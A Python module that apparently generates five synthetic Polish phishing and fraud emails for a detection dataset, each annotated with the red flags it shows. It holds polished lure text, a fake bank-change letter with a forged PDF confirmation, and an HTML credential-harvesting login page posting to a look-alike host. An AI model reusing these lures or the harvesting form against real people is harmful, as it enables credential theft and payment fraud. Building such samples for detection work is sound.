"""Polish attack messages (5)."""
import html as _h

import company as C
import files
import ids
import infra as I
from core import Text, Att, Multi, m, alt, html_wrap, link_html

W = C.who


@m('pl', 'ksef-token-phish')
def a_ksef(ctx):
    t = I.T(2026, 11, 23, 6, 40, 18)
    rcpt = W('malgorzata.lukasik')
    r = I.brevo(ctx.rng, t, rcpt[1], 'ksef-mf.pl')
    url = 'https://ksef-mf.pl/web/uwierzytelnienie?nip=%s&s=%s' % (C.EG_PL_NIP, I.hexs(ctx.rng, 20))
    text = """Krajowy System e-Faktur (KSeF)
Ministerstwo Finansów

Szanowni Państwo,

w Krajowym Systemie e-Faktur oczekują 3 faktury zakupowe wystawione dla
podatnika o numerze NIP {nip} (Example Group Polska sp. z o.o.), których
odbiór nie został potwierdzony.

Jednocześnie informujemy, że token uwierzytelniający przypisany do Państwa
kontekstu wygasa 30.11.2026. Po tym terminie pobieranie faktur przez
system finansowo-księgowy zostanie wstrzymane.

Aby odnowić token i pobrać oczekujące faktury, prosimy o uwierzytelnienie
za pomocą profilu zaufanego lub certyfikatu KSeF:

{url}

Z poważaniem
Zespół KSeF
Ministerstwo Finansów

Wiadomość wygenerowana automatycznie, prosimy na nią nie odpowiadać.
""".format(nip=C.EG_PL_NIP, url=url)
    html = ('<div style="font-family:Lato,Arial,sans-serif;max-width:620px;color:#1b1b1b">'
            '<div style="border-bottom:3px solid #d4213d;padding:12px 0"><b style="font-size:18px">Krajowy System e-Faktur</b><br><span style="color:#666">Ministerstwo Finansów</span></div>'
            '<p>Szanowni Państwo,</p><p>w Krajowym Systemie e-Faktur oczekują <b>3 faktury zakupowe</b> wystawione dla podatnika o numerze NIP <b>%s</b> (Example Group Polska sp. z o.o.), których odbiór nie został potwierdzony.</p>'
            '<p>Jednocześnie informujemy, że token uwierzytelniający przypisany do Państwa kontekstu <b>wygasa 30.11.2026</b>. Po tym terminie pobieranie faktur przez system finansowo-księgowy zostanie wstrzymane.</p>'
            '<p><a href="%s" style="background:#0052a5;color:#fff;padding:11px 26px;text-decoration:none">Odnów token i pobierz faktury</a></p>'
            '<p>Z poważaniem<br>Zespół KSeF<br>Ministerstwo Finansów</p><p style="font-size:11px;color:#888">Wiadomość wygenerowana automatycznie, prosimy na nią nie odpowiadać.</p></div>') % (C.EG_PL_NIP, _h.escape(url))
    a = Multi('alternative', [Text(text, 'plain', 'utf-8', 'quoted-printable'),
                              Text(html_wrap(html, 'pl', 'Arial').replace('%CHARSET%', 'utf-8'), 'html', 'utf-8', 'quoted-printable')],
              ctx.boundary(r))
    return ctx.build(r, 'esp', ('KSeF - Ministerstwo Finansów', 'powiadomienia@ksef-mf.pl'), [rcpt],
                     'KSeF: 3 faktury oczekują na odbiór - token wygasa 30.11.2026', I.rdate(t, 'CET'), a, hcs='utf-8', henc='B',
                     what='Phishing for Poland\'s national e-invoicing system KSeF: "invoices waiting, token expires"',
                     why='KSeF does not e-mail invoice notifications or token expiry warnings; look-alike ksef-mf.pl (real service is ksef.podatki.gov.pl) sent via Brevo; asks for Profil Zaufany / KSeF certificate login; deadline')


@m('pl', 'logistics-partner-lookalike-bank-change')
def a_partner(ctx):
    t = I.T(2026, 11, 9, 11, 3, 40)
    rcpt = W('malgorzata.lukasik')
    fake = 'ksiegowosc@partner-logistik.com.pl'
    r = I.vps_postfix(ctx.rng, t, rcpt[1], 'mail.partner-logistik.com.pl', None, '5.181.156.77', fake,
                      webmail=False, client_ip='46.246.122.60')
    r.msgid = '<000a01db%s$%s$%s@partner-logistik.com.pl>' % (I.hexs(ctx.rng, 4), I.hexs(ctx.rng, 8), I.hexs(ctx.rng, 8))
    iban = ids.iban_fmt(C.PARTNER_FAKE)
    text = """Szanowna Pani Małgorzato,

uprzejmie informujemy, że w związku z przeniesieniem obsługi bankowej naszej
spółki z PKO BP do Banku Millennium, od dnia 09.11.2026 r. płatności za
faktury należy kierować wyłącznie na nowy rachunek:

Partner Logistik sp. z o.o.
Bank Millennium S.A.
{iban}

Dotyczy to również faktur FV/2026/10/0388 oraz FV/2026/10/0401, które
pozostają do zapłaty (łącznie 86 410,50 zł).

Nowy rachunek został zgłoszony do wykazu podatników VAT (biała lista).
Aktualizacja wykazu przez KAS może potrwać do 7 dni roboczych, dlatego do
tego czasu prosimy o realizację przelewów bez mechanizmu podzielonej
płatności. Potwierdzenie z banku przesyłamy w załączniku.

Prosimy o potwierdzenie zmiany w odpowiedzi na tę wiadomość.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Rabowicka 6, 62-020 Swarzędz
NIP {nip}
""".format(iban=iban, nip=C.PARTNER_NIP)
    pdf = files.pdf([(13, True, 'Bank Millennium S.A.'), 'Potwierdzenie otwarcia rachunku', '',
                     'Posiadacz: Partner Logistik sp. z o.o.', 'NIP: ' + C.PARTNER_NIP, 'Numer rachunku: ' + iban,
                     'Data otwarcia: 28.10.2026', '', 'Dokument wygenerowany elektronicznie, nie wymaga podpisu.'],
                    title='Potwierdzenie', author='', producer='iText 2.1.7 by 1T3XT', creator='',
                    date="D:20261108201000+01'00'")
    a = alt(ctx, r, text, None, 'windows-1250', 'quoted-printable', bstyle='outlook', lang='pl', font='Calibri, sans-serif')
    root = Multi('mixed', [a, Att(pdf, 'application/pdf', 'Potwierdzenie_rachunku_Millennium.pdf')], ctx.boundary(r, 'outlook'),
                 preamble='This is a multipart message in MIME format.')
    return ctx.build(r, 'outlook', ('Księgowość Partner Logistik', fake), [rcpt],
                     'Zmiana rachunku bankowego - Partner Logistik sp. z o.o.', I.rdate(t, 'CET'), root, hcs='windows-1250',
                     mailer=('X-Mailer', 'Microsoft Outlook 16.0'), lang_tag='pl',
                     what='Bank-detail change from a look-alike of logistics partner Partner Logistik (partner-logistik.com.pl instead of .pl)',
                     why='Look-alike domain on a VPS, client connecting over a VPN exit, new account not yet on the Polish VAT white list and a request to skip split payment (MPP) - both safeguards against exactly this fraud; confirmation by reply only')


@m('pl', 'bank-companynet-phish')
def a_mbank(ctx):
    t = I.T(2026, 12, 1, 7, 22, 5)
    rcpt = W('malgorzata.lukasik')
    r = I.homepl(ctx.rng, t, rcpt[1], '127.0.0.1', 'localhost', server='serwer2214587.home.pl')
    r.received[1] = 'from localhost (localhost [127.0.0.1])\n\tby serwer2214587.home.pl (Postfix) with ESMTP id %s\n\tfor <%s>; %s' % (
        I.postfix_qid(ctx.rng), rcpt[1], I.rdate(I.plus(t, 1), 'CET', 'e', True))
    r.return_path = '<serwer2214587@serwer2214587.home.pl>'
    r.msgid = '<%s@autoserwis-kowalczyk.pl>' % I.rs(ctx.rng, I.ALNUM, 43)
    url = 'https://companynet-mbank.pl-weryfikacja.com/logowanie?k=%s' % I.hexs(ctx.rng, 24)
    text = """mBank CompanyNet

Szanowni Państwo,

w związku z wdrożeniem nowych wymogów bezpieczeństwa (PSD2/SCA)
użytkownicy systemu CompanyNet zobowiązani są do ponownej weryfikacji
tożsamości do dnia 04.12.2026.

Użytkownicy, którzy nie przejdą weryfikacji, utracą możliwość autoryzacji
przelewów, w tym paczek przelewów płacowych.

Weryfikacja trwa około 2 minut:
{url}

Prosimy przygotować identyfikator firmy, identyfikator użytkownika oraz
urządzenie z aplikacją mToken Asseco.

Pozdrawiamy
Zespół mBank CompanyNet
""".format(url=url)
    html = ('<div style="font-family:Arial,sans-serif;font-size:14px;max-width:600px">'
            '<p style="font-size:20px;color:#e2231a"><b>mBank</b> CompanyNet</p><p>Szanowni Państwo,</p>'
            '<p>w związku z wdrożeniem nowych wymogów bezpieczeństwa (PSD2/SCA) użytkownicy systemu CompanyNet zobowiązani są do ponownej weryfikacji tożsamości do dnia <b>04.12.2026</b>.</p>'
            '<p>Użytkownicy, którzy nie przejdą weryfikacji, utracą możliwość autoryzacji przelewów, w tym paczek przelewów płacowych.</p>'
            '<p><a href="%s" style="background:#e2231a;color:#fff;padding:10px 24px;text-decoration:none">Przejdź do weryfikacji</a></p>'
            '<p style="font-size:12px">Prosimy przygotować identyfikator firmy, identyfikator użytkownika oraz urządzenie z aplikacją mToken Asseco.</p>'
            '<p>Pozdrawiamy<br>Zespół mBank CompanyNet</p></div>') % _h.escape(url)
    a = Multi('alternative', [Text(text, 'plain', 'iso-8859-2', 'quoted-printable', quote_charset=False),
                              Text(html_wrap(html, 'pl', 'Arial').replace('%CHARSET%', 'iso-8859-2'), 'html', 'iso-8859-2', 'quoted-printable', quote_charset=False)],
              ctx.boundary(r, 'phpmailer'))
    return ctx.build(r, 'phpmailer', ('mBank CompanyNet', 'powiadomienia@autoserwis-kowalczyk.pl'), [rcpt],
                     'CompanyNet: wymagana weryfikacja użytkowników do 04.12.2026', I.rdate(t, 'CET'), a, hcs='iso-8859-2',
                     mailer=('X-Mailer', 'PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)'),
                     what='Corporate-banking phish: fake mBank CompanyNet "re-verification" aimed at the accountant who runs payroll batches',
                     why='Sent by a PHP script on a compromised car-repair shop\'s home.pl server, From domain unrelated to mBank, look-alike login host companynet-mbank.pl-weryfikacja.com, threat to block payroll payments, asks to have the mToken ready (real-time OTP relay)')


@m('pl', 'rfq-html-attachment-excel-login')
def a_rfq(ctx):
    t = I.T(2026, 12, 3, 12, 15, 42)
    rcpt = W('agnieszka.dabrowska')
    n = ctx.rng.randrange(60, 70)
    r = I.generic_smtp(ctx.rng, t, rcpt[1], 'smtp.poczta.interia.pl', 'smtp%d.poczta.interia.pl' % n, '217.74.65.%d' % n, inner=[
        'from [185.107.47.215] (unknown [185.107.47.215])\n\tby poczta.interia.pl (INTERIA.PL) with ESMTPSA;\n\t%s' % I.rdate(I.plus(t, 1), 'CET', '0')])
    r.msgid = '<%s@interia.pl>' % I.ruuid(ctx.rng)
    post = 'https://sheet-preview-o365.com/excel/auth/'
    page = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>Excel Online - Zapytanie_ofertowe_ZO-2026-114.xlsx</title>
<style>body{{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1}}
.sheet{{position:fixed;inset:0;background:repeating-linear-gradient(#fff 0 20px,#e1dfdd 20px 21px);filter:blur(3px)}}
.login{{position:relative;width:360px;margin:90px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
input{{width:100%;padding:8px;margin:6px 0;border:0;border-bottom:1px solid #666}}
button{{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right}}</style></head>
<body><div class="sheet"></div><div class="login">
<p style="color:#217346;font-weight:bold">Microsoft Excel</p>
<p style="font-size:20px">Zaloguj się, aby wyświetlić dokument</p>
<p style="font-size:13px">Zapytanie_ofertowe_ZO-2026-114.xlsx został udostępniony dla: agnieszka.dabrowska@example.com</p>
<form method="post" action="{post}"><input type="email" name="u" value="agnieszka.dabrowska@example.com">
<input type="password" name="p" placeholder="Hasło"><button type="submit">Zaloguj</button></form>
</div></body></html>
""".format(post=post)
    text = """Dzień dobry,

w imieniu firmy Ogrody Wiśniewski z Gniezna zwracam się z zapytaniem
ofertowym na dostawę materiału roślinnego na sezon wiosenny 2027
(tuje Smaragd 120-140 cm, bukszpan w donicach, grab na żywopłoty - ok. 2000
szt. łącznie). Szczegółowe zestawienie ilości i terminów w załączniku.

Prosimy o przesłanie oferty do 10.12.2026. Dokument otwiera się w
przeglądarce.

Pozdrawiam serdecznie
Tomasz Wiśniewski
Ogrody Wiśniewski
tel. 604 218 773
"""
    root = Multi('mixed', [Text(text, 'plain', 'utf-8', 'quoted-printable'),
                           Att(page.encode('utf-8'), 'text/html', 'Zapytanie_ofertowe_ZO-2026-114.html', ct_extra='; charset=utf-8')],
                 ctx.boundary(r, 'thunderbird'))
    return ctx.build(r, 'thunderbird', ('Tomasz Wiśniewski', 't.wisniewski.ogrody@interia.pl'), [rcpt],
                     'Zapytanie ofertowe ZO-2026-114 - materiał roślinny wiosna 2027', I.rdate(t, 'CET'), root,
                     mailer=('User-Agent', 'Mozilla Thunderbird'), lang_tag='pl',
                     what='Fake request for quotation with an HTML attachment posing as an Excel Online login (credential harvesting)',
                     why='Unknown "customer" on a free Interia address submitted from a hosting IP; the "spreadsheet" is a local HTML login form with the victim\'s address prefilled that posts to sheet-preview-o365.com; a real RFQ would be an xlsx/pdf')


@m('pl', 'ceo-whatsapp-move-outlook')
def a_whatsapp(ctx):
    t = I.T(2026, 12, 10, 8, 31, 6)
    rcpt = W('pawel.wroblewski')
    r = I.outlook_com(ctx.rng, t, rcpt[1])
    text = """Dzień dobry Panie Pawle,

czy jest Pan dzisiaj dostępny? Potrzebuję Pana pomocy w pilnej i poufnej
sprawie związanej z przejęciem jednego z naszych dostawców w Wielkopolsce.
Szczegóły nie mogą jeszcze trafić do zespołu.

Proszę przesłać mi swój prywatny numer WhatsApp - porozmawiamy tam, bo
jestem cały dzień w podróży i mam ograniczony dostęp do poczty firmowej.

Z pozdrowieniami
Jörg Brückner
Prezes Zarządu, Example Group

Wysłano z aplikacji Outlook dla iOS
"""
    a = alt(ctx, r, text, None, 'iso-8859-2', 'quoted-printable', bstyle='m365', lang='pl', font='Aptos, sans-serif')
    return ctx.build(r, 'exchange', ('Jörg Brückner', 'j.brueckner.ceo@outlook.com'), [rcpt],
                     'Pilne i poufne', I.rdate(t, 'CET'), a, hcs='iso-8859-2', lang_tag='pl-PL',
                     what='CEO-fraud opener: "CEO" on outlook.com asks the Polish office manager for his private WhatsApp number',
                     why='CEO name on a consumer Outlook.com address, writes in Polish although he always writes English/German, secrecy, moves the conversation to WhatsApp outside company controls - the first step of a BEC/payment scam')


MESSAGES = [a_ksef, a_partner, a_mbank, a_rfq, a_whatsapp]
